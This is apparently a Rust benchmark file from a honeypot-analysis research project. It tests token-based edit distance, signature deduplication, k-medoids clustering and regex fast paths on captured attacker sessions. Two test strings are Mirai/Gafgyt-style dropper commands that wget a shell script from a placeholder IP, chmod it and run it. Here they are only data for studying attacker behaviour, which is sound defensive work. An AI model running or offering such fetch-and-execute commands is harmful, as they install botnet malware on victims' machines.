//! Ablation benches for the design choices called out in DESIGN.md §5:
//!
//! 1. token-DLD vs char-DLD robustness to attacker churn;
//! 2. signature canonicalisation (dedup-before-cluster) vs raw sequences;
//! 3. k-medoids cost across k;
//! 4. regex-engine fast paths on Table 1 workloads.

use honeylab_bench::{dataset, Bench};
use honeylab_core::{cluster, dld, report, tokens};

/// Two sessions with identical behaviour but churned IPs/filenames.
const A: &str =
    "cd /tmp; wget http://198.51.100.2/mirai-17.sh; chmod 777 mirai-17.sh; sh mirai-17.sh";
const B: &str =
    "cd /tmp; wget http://203.0.113.99/gafgyt-5021.sh; chmod 777 gafgyt-5021.sh; sh gafgyt-5021.sh";
/// A genuinely different behaviour.
const C: &str = "echo $SHELL; dd if=/proc/self/exe bs=22 count=1";

fn ablation_token_vs_char_dld(bench: &mut Bench) {
    // Token-level distance sees churned sessions as near-identical; the
    // char-level distance does not — the paper's §6 robustness claim.
    let ta = tokens::tokenize(A);
    let tb = tokens::tokenize(B);
    let tc = tokens::tokenize(C);
    let token_same = dld::normalized_dld(&ta, &tb);
    let token_diff = dld::normalized_dld(&ta, &tc);
    let ca: Vec<char> = A.chars().collect();
    let cb: Vec<char> = B.chars().collect();
    let char_same = dld::normalized_dld(&ca, &cb);
    println!(
        "ablation token-vs-char: token(same-behaviour)={token_same:.2} \
         token(diff-behaviour)={token_diff:.2} char(same-behaviour)={char_same:.2}"
    );
    assert!(
        token_same < token_diff,
        "token distance must separate behaviours"
    );
    bench.time("ablation_token_dld", 12, || dld::normalized_dld(&ta, &tb));
    bench.time("ablation_char_dld", 12, || dld::normalized_dld(&ca, &cb));
}

fn ablation_signature_dedup(bench: &mut Bench) {
    // How much does canonicalisation shrink the clustering input?
    let ds = dataset();
    let file_sessions: Vec<String> = report::command_sessions(&ds.sessions)
        .into_iter()
        .filter(|s| s.dropped_hashes().next().is_some() && !s.uris.is_empty())
        .map(|s| s.command_text())
        .collect();
    let raw: std::collections::HashSet<Vec<String>> =
        file_sessions.iter().map(|t| tokens::tokenize(t)).collect();
    let canon: std::collections::HashSet<Vec<String>> =
        file_sessions.iter().map(|t| tokens::signature(t)).collect();
    println!(
        "ablation dedup: {} sessions -> {} raw token-seqs -> {} canonical signatures",
        file_sessions.len(),
        raw.len(),
        canon.len()
    );
    assert!(canon.len() <= raw.len());
    bench.time("ablation_dedup/signature_pass", 10, || {
        let s: std::collections::HashSet<Vec<String>> =
            file_sessions.iter().map(|t| tokens::signature(t)).collect();
        s.len()
    });
}

fn ablation_kmedoids_cost(bench: &mut Bench) {
    let ds = dataset();
    let ca = report::cluster_analysis(&ds.sessions, &ds.abuse, 2, 42);
    let m = cluster::DistanceMatrix::build(&ca.signatures);
    for k in [10usize, 45, 90] {
        bench.time(format!("ablation_kmedoids/k{k}"), 10, || {
            cluster::k_medoids(&m, &ca.weights, k, 42)
        });
    }
    println!(
        "ablation kmedoids: {} signatures; silhouette(k=90)={:.3}",
        ca.signatures.len(),
        cluster::silhouette(
            &m,
            &ca.weights,
            &cluster::k_medoids(&m, &ca.weights, 90, 42)
        )
    );
}

fn ablation_regex_fast_paths(bench: &mut Bench) {
    // The same conjunction evaluated with and without the line-start
    // shortcut (the slow path is forced via an equivalent pattern whose
    // lookahead bodies don't start with `.*`).
    let fast = sregex::Regex::new(r"(?=.*curl)(?=.*wget)").unwrap();
    let slow = sregex::Regex::new(r"(?=(?:.?)(?:.*)curl)(?=(?:.?)(?:.*)wget)").unwrap();
    let line = "curl https://203.0.113.7/ -s -X GET --max-redirs 5 --cookie 'k=v'";
    let hay = vec![line; 60].join("\n");
    assert_eq!(fast.is_match(&hay), slow.is_match(&hay));
    bench.time("ablation_conjunction_fastpath", 12, || fast.is_match(&hay));
    bench.time("ablation_conjunction_slowpath", 12, || slow.is_match(&hay));
}

fn ablation_cluster_purity(bench: &mut Bench) {
    // Quality ablation: cluster the first 300 file sessions on (a)
    // canonical token signatures and (b) their first 120 characters, then
    // score cluster purity at k=24 against the Table 1 category. The
    // sample carries only a handful of Table 1 labels (5 at 1:2000), so
    // both representations score 1.00 and this cannot show tokens
    // winning; it pins that they do not lose by more than 0.05. The churn
    // claim itself is the pairwise check in `ablation_token_vs_char_dld`.
    use honeylab_core::classify::Classifier;
    let ds = dataset();
    let cl = Classifier::table1();
    let sample: Vec<(&str, String)> = report::command_sessions(&ds.sessions)
        .into_iter()
        .filter(|s| s.dropped_hashes().next().is_some() && !s.uris.is_empty())
        .take(300)
        .map(|s| (cl.classify(&s.command_text()), s.command_text()))
        .collect();
    let labels: Vec<&str> = sample.iter().map(|(l, _)| *l).collect();
    let weights = vec![1u64; sample.len()];

    let purity = |assignment: &[usize], k: usize| -> f64 {
        let mut majority = 0usize;
        for c in 0..k {
            let mut counts: std::collections::HashMap<&str, usize> =
                std::collections::HashMap::new();
            for (i, &a) in assignment.iter().enumerate() {
                if a == c {
                    *counts.entry(labels[i]).or_default() += 1;
                }
            }
            majority += counts.values().max().copied().unwrap_or(0);
        }
        majority as f64 / assignment.len() as f64
    };

    let token_sigs: Vec<Vec<String>> = sample.iter().map(|(_, t)| tokens::signature(t)).collect();
    let char_sigs: Vec<Vec<String>> = sample
        .iter()
        .map(|(_, t)| t.chars().take(120).map(|c| c.to_string()).collect())
        .collect();
    let k = 24;
    let tm = cluster::DistanceMatrix::build(&token_sigs);
    let cm = cluster::DistanceMatrix::build(&char_sigs);
    let tp = purity(&cluster::k_medoids(&tm, &weights, k, 1).assignment, k);
    let cp = purity(&cluster::k_medoids(&cm, &weights, k, 1).assignment, k);
    println!(
        "ablation purity (k={k}, n={}): token-DLD {tp:.2} vs char-DLD {cp:.2}",
        sample.len()
    );
    assert!(
        tp >= cp - 0.05,
        "token representation must not lose to chars"
    );
    bench.time("ablation_purity/token_matrix_300", 10, || {
        cluster::DistanceMatrix::build(&token_sigs)
    });
    bench.time("ablation_purity/char_matrix_300", 10, || {
        cluster::DistanceMatrix::build(&char_sigs)
    });
}

fn main() {
    let mut bench = Bench::from_args("ablations");
    ablation_token_vs_char_dld(&mut bench);
    ablation_signature_dedup(&mut bench);
    ablation_kmedoids_cost(&mut bench);
    ablation_regex_fast_paths(&mut bench);
    ablation_cluster_purity(&mut bench);
    bench.finish();
}
